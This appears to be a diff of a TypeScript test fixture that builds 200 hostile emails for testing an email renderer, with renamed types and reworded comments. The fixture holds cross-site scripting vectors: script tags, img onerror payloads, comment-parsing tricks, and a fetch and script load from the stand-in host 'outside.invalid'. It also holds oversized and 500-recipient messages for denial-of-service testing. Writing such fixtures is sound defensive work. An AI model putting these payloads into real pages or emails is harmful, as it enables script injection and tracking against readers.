@@ -1,6 +1,6 @@
-/** 200 malicious emails: attack vectors in wrappings known to bypass filters, and emails that are hostile as a whole. */
+/** 200 malicious emails: attack vectors in encodings known to bypass filters, and emails that are hostile in their entirety. */
 
-export type HostileMail = {
+export type HostileEmail = {
   name: string
   from: string
   to: string
@@ -14,11 +14,11 @@ export type HostileMail = {
 export const outsideHost = 'outside.invalid'
 const outside = `https://${outsideHost}`
 
-/** The payload: a dialog and a request to the outside. */
+/** The payload: a dialog and an external request. */
 const run = `alert('hostile');fetch('${outside}/script')`
 const inAttribute = run.replaceAll("'", '&#39;')
 
-/** Each is dangerous in a page that renders it unchanged. */
+/** Each is dangerous in a page that renders it unmodified. */
 const vectors: [name: string, html: string][] = [
   ['a script', `<script>${run}</script>`],
   ['a script from outside', `<script src="${outside}/x.js"></script>`],
@@ -101,7 +101,7 @@ const wrappings: [name: string, wrap: (vector: string) => string][] = [
   ],
 ]
 
-/** Vectors that work only as they are, or are their own wrapping. */
+/** Vectors that work only unmodified. */
 const tricks: [name: string, html: string][] = [
   ['a comment that ends early', `<!--><img src=x onerror="${inAttribute}">-->`],
   ['a comment that ends oddly', `<!-- --!><img src=x onerror="${inAttribute}"> -->`],
@@ -168,7 +168,7 @@ const tricks: [name: string, html: string][] = [
   ],
 ]
 
-const wholeMails: [name: string, mail: Partial<HostileMail>][] = [
+const hostileMessages: [name: string, mail: Partial<HostileEmail>][] = [
   ['5 MB of text', { html: `<p>${'Hello there. '.repeat(385_000)}</p><img src="${outside}/late.gif">` }],
   ['5 MB of open tags', { html: '<div>'.repeat(1_000_000) }],
   ['500 recipients', { to: Array.from({ length: 500 }, (_, at) => `"Person ${at}, Clinic" <person${at}@clinic.example>`).join(', ') }],
@@ -202,7 +202,7 @@ const wholeMails: [name: string, mail: Partial<HostileMail>][] = [
   ],
 ]
 
-const mail = (name: string, part: Partial<HostileMail>): HostileMail => ({
+const mail = (name: string, part: Partial<HostileEmail>): HostileEmail => ({
   name,
   from: 'Ana Hostile <ana@patient.example>',
   to: 'team@refyne.example',
@@ -213,8 +213,8 @@ const mail = (name: string, part: Partial<HostileMail>): HostileMail => ({
   ...part,
 })
 
-export const hostileMails: readonly HostileMail[] = [
+export const hostileEmails: readonly HostileEmail[] = [
   ...vectors.flatMap(([name, vector]) => wrappings.map(([wrapping, wrap]) => mail(`${name}, ${wrapping}`, { html: wrap(vector) }))),
   ...tricks.map(([name, html]) => mail(name, { html })),
-  ...wholeMails.map(([name, part]) => mail(name, part)),
+  ...hostileMessages.map(([name, part]) => mail(name, part)),
 ]
